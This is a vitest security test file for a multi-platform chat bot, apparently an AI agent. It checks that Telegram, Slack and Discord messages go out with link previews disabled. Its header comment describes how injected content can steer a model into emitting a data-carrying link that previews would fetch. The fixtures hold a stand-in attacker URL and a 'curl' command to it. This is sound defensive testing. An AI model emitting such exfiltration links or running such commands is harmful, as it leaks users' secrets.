import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { Api } from 'grammy';
import type { Redis } from 'ioredis';
import { parseEnv } from '../../src/config/load.js';
import { deriveConfig, type Config } from '../../src/config/config.js';
import { createLogger } from '../../src/log.js';
import type { ApprovalCard, InboundMessage, OutgoingFile, StreamShown } from '../../src/channels/types.js';
import { TelegramOutbound } from '../../src/channels/telegram/outbound.js';
import { telegramModule } from '../../src/channels/telegram/module.js';
import { SlackOutbound } from '../../src/channels/slack/outbound.js';
import { slackChannel } from '../../src/channels/slack/module.js';
import { DiscordOutbound } from '../../src/channels/discord/outbound.js';
import { discordChannel } from '../../src/channels/discord/module.js';
import { DiscordRest } from '../../src/channels/discord/rest.js';
import { normaliseCommand, normaliseMessage } from '../../src/channels/discord/inbound.js';
import { startFakeTelegram, TOKEN, type FakeTelegram, type RecordedCall } from '../fakes/telegram-server.js';
import { BOT_TOKEN, startFakeSlack, type Call, type FakeSlack } from '../fakes/slack-server.js';
import { startFakeDiscord, type FakeDiscord, type RecordedRequest } from '../fakes/discord-server.js';
import { dropPrefix, testRedis, uniquePrefix } from '../helpers/redis.js';

// Every write waits for its conversation's turn on the pacer (about a second apart): these cases make dozens in a row.
vi.setConfig({ testTimeout: 120_000 });

/**
 * Security: a model steered by injected content can answer with a link that carries data in
 * its URL; a platform that fetches the link for a preview sends the data out with no click.
 * Every message the bot sends or edits goes out with previews off (Telegram
 * link_preview_options.is_disabled, Slack unfurl_links/unfurl_media false, Discord's
 * SUPPRESS_EMBEDS flag) unless LINK_PREVIEWS=1; status lines and approval cards never preview.
 */

const log = createLogger('silent');
const URL_OUT = 'https://attacker.example/x?d=secret';

/** About 9,000 characters, the leaking link in every paragraph: several messages on every platform. */
const LONG = Array.from({ length: 40 }, (_, i) => `Answer part ${i}: see ${URL_OUT}&p=${i} for the details, ${'and more words here '.repeat(9).trim()}.`).join(
  '\n\n',
);
const STATUS = `• STATUS fetching ${URL_OUT}`;

const card: ApprovalCard = {
  id: 'ap1',
  tool: 'run_command',
  args: JSON.stringify({ command: `curl ${URL_OUT}` }),
  requester: 'Ada',
  expiresAt: Date.now() + 600_000,
};

function clock() {
  let t = Date.now();
  return { now: () => t, tick: (ms: number) => void (t += ms) };
}

/** The answer streamed in growing steps (the last past one message), then finished in place. */
async function streamThenFinish(
  out: {
    streamAnswer?: (to: InboundMessage, text: string, shown: StreamShown) => Promise<StreamShown>;
    finishStream?: (to: InboundMessage, shown: StreamShown, text: string) => Promise<string[]>;
  },
  to: InboundMessage,
  tick: () => void,
): Promise<void> {
  let shown: StreamShown = { ids: [], texts: [] };
  // Telegram makes one write per call: the last size is shown twice (the first message, then the next).
  for (const size of [120, 900, 2_600, 5_000, 5_000, 5_000]) {
    shown = await out.streamAnswer!(to, LONG.slice(0, size), shown);
    tick();
  }
  expect(shown.ids.length).toBeGreaterThanOrEqual(2);
  await out.finishStream!(to, shown, LONG);
}

function configWith(env: Record<string, string>): Config {
  return deriveConfig(parseEnv({ OPENAI_API_KEY: 'k', ...env }));
}

describe('config: LINK_PREVIEWS', () => {
  it('is off unless set to 1', () => {
    expect(configWith({}).linkPreviews).toBe(false);
    expect(configWith({ LINK_PREVIEWS: '0' }).linkPreviews).toBe(false);
    expect(configWith({ LINK_PREVIEWS: '1' }).linkPreviews).toBe(true);
    expect(() => configWith({ LINK_PREVIEWS: 'maybe' })).toThrow(/LINK_PREVIEWS/);
  });
});

// ---------------------------------------------------------------- Telegram

describe('telegram: link_preview_options on every sendMessage and editMessageText', () => {
  let tg: FakeTelegram;
  beforeAll(async () => {
    tg = await startFakeTelegram();
  });
  afterAll(async () => {
    await tg.close();
  });
  afterEach(() => {
    tg.calls.length = 0;
  });

  const to = (chat: number, fields: Partial<InboundMessage> = {}): InboundMessage => ({
    v: 1,
    id: `m${chat}`,
    platform: 'telegram',
    conversation: String(chat),
    sender: { id: '42' },
    text: 'q',
    attachments: [],
    eventId: `${chat}:5`,
    receivedAt: 0,
    replyTo: '5',
    meta: { chatType: chat < 0 ? 'supergroup' : 'private' },
    ...fields,
  });
  const outbound = (linkPreviews: boolean, now?: () => number) =>
    new TelegramOutbound(new Api(TOKEN, { apiRoot: tg.apiRoot }), { token: TOKEN, apiRoot: tg.apiRoot, log, linkPreviews, ...(now && { now }) });
  const textWrites = (): RecordedCall[] => tg.calls.filter((c) => c.method === 'sendMessage' || c.method === 'editMessageText');
  const disabled = (c: RecordedCall) => c.body.link_preview_options?.is_disabled === true;

  /** Every kind of write: answer in pieces, status and its edit, a streamed answer and its finish, an approval card and its decision. */
  async function everything(linkPreviews: boolean): Promise<void> {
    const c = clock();
    const out = outbound(linkPreviews, c.now);
    await out.post(to(-1001), LONG, 'answer');
    await out.post(to(-1001), `Sorry, ${URL_OUT}`, 'notice');
    const [status] = await out.post(to(1002), STATUS, 'status');
    c.tick(5_000);
    await out.edit(to(1002), status!, `${STATUS}\n• STATUS more`);
    c.tick(5_000);
    await streamThenFinish(out, to(1003), () => c.tick(5_000));
    const cardId = await out.approvalCard(to(-1004), card);
    await out.approvalDecided(to(-1004), cardId, card, { decision: 'approved', by: 'Ada', at: Date.now() });
  }

  it('default: every send and edit, of every kind, has previews disabled', async () => {
    await everything(false);
    const writes = textWrites();
    expect(writes.filter((c) => c.method === 'sendMessage' && String(c.body.chat_id) === '-1001').length).toBeGreaterThanOrEqual(3);
    expect(writes.some((c) => c.method === 'editMessageText' && String(c.body.chat_id) === '1003')).toBe(true);
    // (An edit the fake finds unchanged, "message is not modified", is a 400 the adapter takes as done.)
    expect(
      writes
        .filter((c) => c.error !== undefined && !(c.method === 'editMessageText' && c.error === 400))
        .map((c) => `${c.method} ${c.error} ${String(c.body.text).slice(0, 40)}`),
    ).toEqual([]);
    expect(writes.filter((c) => !disabled(c)).map((c) => `${c.method} ${String(c.body.text).slice(0, 40)}`)).toEqual([]);
  });

  it('LINK_PREVIEWS=1: answers (posted, streamed, finished) may preview; status lines and approval cards still do not', async () => {
    await everything(true);
    const writes = textWrites();
    const cards = writes.filter((c) => String(c.body.chat_id) === '-1004');
    const statuses = writes.filter((c) => String(c.body.chat_id) === '1002');
    const answers = writes.filter((c) => !cards.includes(c) && !statuses.includes(c));
    expect(answers.length).toBeGreaterThanOrEqual(6);
    expect(answers.filter(disabled)).toEqual([]);
    expect(cards).toHaveLength(2);
    expect(statuses).toHaveLength(2);
    expect([...cards, ...statuses].every(disabled)).toBe(true);
  });

  it('the channel module reads LINK_PREVIEWS', async () => {
    for (const [env, off] of [
      [{}, true],
      [{ LINK_PREVIEWS: '1' }, false],
    ] as const) {
      tg.calls.length = 0;
      const out = telegramModule.outbound({ config: configWith({ TELEGRAM_BOT_TOKEN: TOKEN, TELEGRAM_API_ROOT: tg.apiRoot, ...env }), log });
      await out.post(to(1005), `see ${URL_OUT}`, 'answer');
      expect(textWrites().map(disabled)).toEqual([off]);
    }
  });
});

// ---------------------------------------------------------------- Slack

describe('slack: unfurl_links and unfurl_media false on every chat.postMessage', () => {
  let slack: FakeSlack;
  let redis: Redis;
  const prefix = uniquePrefix('sec-previews');
  beforeAll(async () => {
    slack = await startFakeSlack();
    redis = testRedis();
  });
  afterAll(async () => {
    await slack.close();
    await dropPrefix(redis, prefix);
    redis.disconnect();
  });
  afterEach(() => {
    slack.calls.length = 0;
  });

  const to = (channel: string, ts = '1700000000.000100'): InboundMessage => ({
    v: 1,
    id: `${channel}:${ts}`,
    platform: 'slack',
    conversation: channel,
    thread: ts,
    sender: { id: 'U0ADA' },
    text: 'hi',
    attachments: [],
    eventId: `${channel}:${ts}`,
    receivedAt: 0,
    replyTo: ts,
  });
  const outbound = (linkPreviews: boolean) => new SlackOutbound({ token: BOT_TOKEN, apiUrl: slack.apiUrl, redis, prefix, log, linkPreviews });
  const posts = (): Call[] => slack.calls.filter((c) => c.method === 'chat.postMessage');
  const noUnfurl = (c: Call) => String(c.params.unfurl_links) === 'false' && String(c.params.unfurl_media) === 'false';

  async function everything(linkPreviews: boolean): Promise<void> {
    const out = outbound(linkPreviews);
    await out.post(to('C0LONG'), LONG, 'answer');
    await out.post(to('C0LONG'), `Sorry, ${URL_OUT}`, 'notice');
    const [status] = await out.post(to('C0STATUS'), STATUS, 'status');
    await out.edit(to('C0STATUS'), status!, `${STATUS}\n• STATUS more`);
    // No recipient team: the answer streams by chat.postMessage and chat.update.
    await streamThenFinish(out, to('C0STREAM'), () => undefined);
    await out.approvalCard(to('C0CARD'), card);
  }

  it('default: every message posted, of every kind, has unfurls off', async () => {
    await everything(false);
    expect(posts().filter((c) => c.params.channel === 'C0LONG').length).toBeGreaterThanOrEqual(3);
    expect(posts().filter((c) => c.params.channel === 'C0STREAM').length).toBeGreaterThanOrEqual(2);
    expect(posts().every((c) => c.error === undefined)).toBe(true);
    expect(
      posts()
        .filter((c) => !noUnfurl(c))
        .map((c) => `${String(c.params.channel)} ${String(c.params.text).slice(0, 40)}`),
    ).toEqual([]);
  });

  it('default: a thread answer with a known recipient team is not a native stream (chat.startStream takes no unfurl arguments): posted with unfurls off, then rewritten', async () => {
    const out = outbound(false);
    const inThread = { ...to('C0NATIVE'), meta: { team: 'T0FAKE' } };
    await streamThenFinish(out, inThread, () => undefined);
    expect(slack.calls.filter((c) => c.method === 'chat.startStream')).toEqual([]);
    const posted = posts().filter((c) => c.params.channel === 'C0NATIVE');
    expect(posted.length).toBeGreaterThanOrEqual(1);
    expect(posted.every(noUnfurl)).toBe(true);
    // With LINK_PREVIEWS=1 the same answer streams natively.
    slack.calls.length = 0;
    await streamThenFinish(outbound(true), { ...to('C0NATIVE', '1700000000.000200'), meta: { team: 'T0FAKE' } }, () => undefined);
    expect(slack.calls.filter((c) => c.method === 'chat.startStream').length).toBeGreaterThanOrEqual(1);
  });

  it('LINK_PREVIEWS=1: answers may unfurl; status messages and approval cards still do not', async () => {
    await everything(true);
    const quiet = posts().filter((c) => c.params.channel === 'C0STATUS' || c.params.channel === 'C0CARD');
    const answers = posts().filter((c) => !quiet.includes(c));
    expect(answers.length).toBeGreaterThanOrEqual(6);
    expect(answers.filter(noUnfurl)).toEqual([]);
    expect(quiet).toHaveLength(2);
    expect(quiet.every(noUnfurl)).toBe(true);
  });

  it('the channel module reads LINK_PREVIEWS', async () => {
    for (const [env, off] of [
      [{}, true],
      [{ LINK_PREVIEWS: '1' }, false],
    ] as const) {
      slack.calls.length = 0;
      const config = configWith({ SLACK_BOT_TOKEN: BOT_TOKEN, SLACK_SIGNING_SECRET: 'sig', SLACK_API_URL: slack.apiUrl, QUEUE_PREFIX: prefix, ...env });
      await slackChannel.outbound({ config, redis, log }).post(to('C0MOD'), `see ${URL_OUT}`, 'answer');
      expect(posts().map(noUnfurl)).toEqual([off]);
    }
  });
});

// ---------------------------------------------------------------- Discord

const SUPPRESS_EMBEDS = 1 << 2;
const EPHEMERAL = 1 << 6;

describe('discord: SUPPRESS_EMBEDS on every message created or edited with content', () => {
  let fake: FakeDiscord;
  let redis: Redis;
  const prefix = uniquePrefix('sec-previews-dc');
  beforeAll(async () => {
    fake = await startFakeDiscord();
    redis = testRedis();
  });
  afterAll(async () => {
    await dropPrefix(redis, prefix);
    redis.disconnect();
    await fake.close();
  });
  afterEach(() => {
    fake.requests.length = 0;
  });

  const outbound = (linkPreviews: boolean, now: () => number = Date.now) =>
    new DiscordOutbound({ rest: new DiscordRest({ token: fake.token, apiUrl: fake.apiUrl }), log, downloadHosts: [], redis, prefix, now, linkPreviews });

  function mention(channel = fake.ids.general): InboundMessage {
    const m = fake.userMessage({ channel, content: `<@${fake.ids.app}> do it` });
    const gate = normaliseMessage(
      {
        id: m.id,
        channelId: m.channel_id,
        guildId: fake.ids.guild,
        author: { id: fake.ids.alice, name: 'Alice', bot: false },
        content: m.content,
        system: false,
        webhook: false,
        mentionedUserIds: [fake.ids.app],
        mentionedRoleIds: [],
        attachments: [],
        userNames: {},
      },
      { id: fake.ids.app },
      Date.now(),
    );
    if (!gate.ok) throw new Error('not addressed');
    return gate.message;
  }

  async function deferredAsk(): Promise<InboundMessage> {
    const ix = fake.slash({ name: 'ask', channel: fake.ids.general, prompt: 'do it' });
    await new DiscordRest({ token: fake.token, apiUrl: fake.apiUrl }).request('POST', `/interactions/${ix.id}/${ix.token}/callback`, {
      auth: false,
      body: { type: 5, data: { flags: 0 } },
    });
    return normaliseCommand(
      {
        id: ix.id,
        token: ix.token,
        applicationId: fake.ids.app,
        name: 'ask',
        prompt: 'do it',
        channelId: fake.ids.general,
        guildId: fake.ids.guild,
        user: { id: fake.ids.alice, name: 'Alice' },
      },
      Date.now(),
    );
  }

  const file = (caption: string): OutgoingFile => {
    const bytes = new TextEncoder().encode('a,b\n1,2\n');
    return { name: 'data.csv', path: 'data.csv', absolutePath: '/w/data.csv', size: bytes.byteLength, mime: 'text/csv', caption, read: async () => bytes };
  };

  /** Message creates and edits with content: channel messages, the interaction's response and its follow-ups. */
  const writes = (): RecordedRequest[] =>
    fake.requests.filter(
      (r) =>
        (r.method === 'POST' || r.method === 'PATCH') &&
        /^\/(channels\/\d+\/messages|webhooks\/\d+\/[^/]+)(\/|$)/.test(r.path) &&
        typeof r.body?.content === 'string',
    );
  const suppressed = (r: RecordedRequest) => (Number(r.body.flags ?? 0) & SUPPRESS_EMBEDS) !== 0;
  const show = (r: RecordedRequest) =>
    `${r.method} ${r.path.replace(/\/webhooks\/(\d+)\/[^/]+/, '/webhooks/$1/:token')} ${String(r.body.content).slice(0, 30)}`;

  async function everything(linkPreviews: boolean): Promise<void> {
    const c = clock();
    const out = outbound(linkPreviews, c.now);
    // A mention: channel messages.
    const m = mention();
    const [status] = await out.post(m, STATUS, 'status');
    await out.edit(m, status!, `${STATUS}\n• STATUS more`);
    await out.post(m, LONG, 'answer');
    await streamThenFinish(out, mention(), () => c.tick(5_000));
    // A slash command: the deferred response, edits of it and follow-ups.
    const ask = await deferredAsk();
    await out.post(ask, STATUS, 'status');
    await out.edit(ask, '@original', `${STATUS}\n• STATUS more`);
    await out.post(ask, LONG, 'answer');
    await out.post(await deferredAsk(), `Sorry, ${URL_OUT}`, 'notice');
    await streamThenFinish(out, await deferredAsk(), () => c.tick(5_000));
    await out.upload(await deferredAsk(), file(`the data, from ${URL_OUT}`), AbortSignal.timeout(10_000));
    await out.upload(mention(), file(`the data, from ${URL_OUT}`), AbortSignal.timeout(10_000));
    // A slash command whose token has expired: the answer goes to the channel.
    const late = await deferredAsk();
    c.tick(16 * 60_000);
    await out.post(late, LONG, 'answer');
    c.tick(-16 * 60_000);
    // The approval card and its decision.
    const cardTo = mention();
    const cardId = await out.approvalCard(cardTo, card);
    await out.approvalDecided(cardTo, cardId, card, { decision: 'denied', by: 'Ada', at: Date.now() });
  }

  it('default: every create and edit, of every kind, suppresses embeds (other flags kept)', async () => {
    await everything(false);
    const all = writes();
    expect(all.every((r) => r.status >= 200 && r.status < 300)).toBe(true);
    expect(all.filter((r) => r.method === 'POST' && r.path.startsWith('/webhooks/')).length).toBeGreaterThanOrEqual(4);
    expect(all.filter((r) => r.method === 'PATCH' && r.path.includes('/messages/@original')).length).toBeGreaterThanOrEqual(4);
    expect(all.filter((r) => r.method === 'PATCH' && /^\/webhooks\/\d+\/[^/]+\/messages\/\d+$/.test(r.path)).length).toBeGreaterThanOrEqual(1);
    expect(all.filter((r) => r.method === 'PATCH' && r.path.startsWith('/channels/')).length).toBeGreaterThanOrEqual(3);
    expect(all.filter((r) => !suppressed(r)).map(show)).toEqual([]);
    // The failure notice stays ephemeral.
    const notice = all.find((r) => String(r.body.content).startsWith('Sorry'))!;
    expect(notice.body.flags).toBe(EPHEMERAL | SUPPRESS_EMBEDS);
    // And the fake's messages agree: none of the bot's shows embeds.
    expect(
      fake.messages
        .filter((msg) => msg.author.id === fake.ids.app && msg.content.includes('attacker.example') && !msg.embedsSuppressed)
        .map((msg) => msg.content.slice(0, 30)),
    ).toEqual([]);
  });

  it('LINK_PREVIEWS=1: answers may embed (a status line in the deferred response does not stick); status lines and cards never', async () => {
    const earlier = fake.messages.length;
    await everything(true);
    const all = writes();
    const isQuiet = (r: RecordedRequest) =>
      String(r.body.content).includes('STATUS') || String(r.body.content).includes('curl ') || String(r.body.content).includes('sending data.csv');
    const answers = all.filter((r) => !isQuiet(r));
    expect(answers.length).toBeGreaterThanOrEqual(10);
    expect(answers.filter(suppressed).map(show)).toEqual([]);
    expect(all.filter(isQuiet).length).toBeGreaterThanOrEqual(6);
    expect(
      all
        .filter(isQuiet)
        .filter((r) => !suppressed(r))
        .map(show),
    ).toEqual([]);
    // An answer that replaced a status line in the deferred response shows its embeds again.
    const answered = fake.messages.slice(earlier).filter((msg) => msg.via === 'original' && msg.content.startsWith('Answer part 0'));
    expect(answered.length).toBeGreaterThanOrEqual(1);
    expect(answered.every((msg) => !msg.embedsSuppressed)).toBe(true);
  });

  it('the channel module reads LINK_PREVIEWS', async () => {
    for (const [env, off] of [
      [{}, true],
      [{ LINK_PREVIEWS: '1' }, false],
    ] as const) {
      fake.requests.length = 0;
      const config = configWith({
        DISCORD_TOKEN: fake.token,
        DISCORD_APPLICATION_ID: fake.ids.app,
        DISCORD_API_URL: fake.apiUrl,
        QUEUE_PREFIX: prefix,
        ...env,
      });
      await discordChannel.outbound({ config, redis, log }).post(mention(), `see ${URL_OUT}`, 'answer');
      expect(writes().map(suppressed)).toEqual([off]);
    }
  });
});
